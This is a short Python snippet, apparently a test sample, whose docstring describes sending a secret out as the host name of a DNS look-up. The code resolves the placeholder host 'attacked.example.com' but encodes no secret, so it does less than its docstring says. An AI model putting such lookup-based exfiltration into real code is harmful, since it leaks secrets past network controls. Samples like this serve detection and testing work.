"""Sends a secret out as the host name of a look-up."""
import socket

got = None
try:
    got = socket.getaddrinfo("attacked.example.com", 80)
except OSError:
    pass
got
